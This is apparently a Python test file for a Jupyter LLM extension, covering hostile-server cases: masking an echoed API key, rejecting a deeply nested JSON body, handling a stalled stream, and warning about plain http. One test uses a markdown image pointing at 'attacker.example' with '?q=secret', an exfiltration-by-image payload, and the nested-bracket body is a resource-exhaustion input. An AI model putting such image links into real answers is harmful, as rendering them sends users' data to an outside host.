"""What a notebook shows when the server is hostile: a real kernel, real loopback servers.

Every message the kernel sends is checked for the API key as it is collected (``conftest``), so
each test here also proves that a key quoted back by the server reaches no output.
"""

from __future__ import annotations

from dataclasses import replace

import httpx
from conftest import KernelSession
from hostile import HostileServer, canned, http_response

from allm_jupyter.testing import StandInServer, scenarios


def ask(kernel: KernelSession, server: StandInServer, question: str = "q?"):
    return kernel.run(f"%%allm workspace={server.slugs[0]} mode=chat\n{question}")


def test_a_key_quoted_back_reaches_no_output_and_no_allm(
    kernel: KernelSession, kernel_server: StandInServer
) -> None:
    key = kernel_server.api_key
    kernel_server.queue(scenarios.abort_before_tokens(f"proxy refused Authorization: Bearer {key}"))
    run = ask(kernel, kernel_server)
    assert run.status == "error" and "Bearer ********" in run.error_text
    shown = kernel.run("print(_allm.error, repr(_allm))")
    assert "Bearer ********" in shown.text


def test_a_key_in_a_workspace_name_is_masked_in_the_table(
    kernel: KernelSession, kernel_server: StandInServer
) -> None:
    key = kernel_server.api_key
    created = httpx.post(
        f"{kernel_server.base_url}/api/v1/workspace/new",
        json={"name": f"Team {key}"},
        headers={"Authorization": f"Bearer {key}"},
    )
    assert created.status_code == 200
    run = kernel.run("%allm workspaces")
    assert run.status == "ok" and "Team ********" in run.text


def test_a_body_nested_too_deeply_fails_the_cell_with_one_line(kernel: KernelSession) -> None:
    deep = canned(http_response(200, b"[" * 100_000 + b"]" * 100_000))
    with HostileServer({"/api/v1/workspaces": deep}) as hostile:
        assert kernel.run(f"%config AllmMagics.base_url = {hostile.base_url!r}").status == "ok"
        try:
            run = kernel.run("%allm workspaces")
        finally:
            kernel.run("%config AllmMagics.base_url = None")
    assert run.status == "error"
    (error,) = run.of_type("error")
    assert len(error["traceback"]) == 1
    assert "with JSON nested too deeply to read." in error["traceback"][0]


def test_an_answer_whose_body_stays_open_after_finalize_is_complete(
    kernel: KernelSession, kernel_server: StandInServer
) -> None:
    answer = scenarios.normal("All said.")
    kernel_server.queue(replace(answer, stream=(*answer.stream, scenarios.Stall())))
    run = kernel.run(f"%%allm workspace={kernel_server.slugs[0]} mode=chat timeout=5\nq?")
    assert run.status == "ok", run.error_text
    assert run.final_markdown.startswith("All said.") and "⚠" not in run.final_markdown
    assert kernel_server.streams[-1].disconnected.wait(10)


def test_images_are_links_unless_show_images(
    kernel: KernelSession, kernel_server: StandInServer
) -> None:
    image = "![chart](https://attacker.example/c.png?q=secret)"
    kernel_server.queue(scenarios.normal(f"See {image} here."))
    assert ask(kernel, kernel_server).final_markdown.startswith(
        "See [🖼 chart](https://attacker.example/c.png?q=secret) here."
    )
    kernel.run("%config AllmMagics.show_images = True")
    try:
        kernel_server.queue(scenarios.normal(f"See {image} here."))
        assert ask(kernel, kernel_server).final_markdown.startswith(f"See {image} here.")
    finally:
        kernel.run("%config AllmMagics.show_images = False")


def test_plain_http_to_another_host_warns_once_in_the_notebook(
    kernel: KernelSession, kernel_server: StandInServer
) -> None:
    port = kernel_server.base_url.rsplit(":", 1)[1]
    # 0.0.0.0 is no loopback name, yet Linux connects it to this machine.
    assert kernel.run(f"%config AllmMagics.base_url = 'http://0.0.0.0:{port}'").status == "ok"
    try:
        first, second = kernel.run("%allm workspaces"), kernel.run("%allm workspaces")
    finally:
        kernel.run("%config AllmMagics.base_url = None")
    assert first.status == second.status == "ok"
    warned = [o["text"] for o in first.of_type("stream") if o["name"] == "stderr"]
    assert any("PlainHttpWarning: The API key goes to 0.0.0.0 over plain http" in t for t in warned)
    assert "plain http" not in second.text
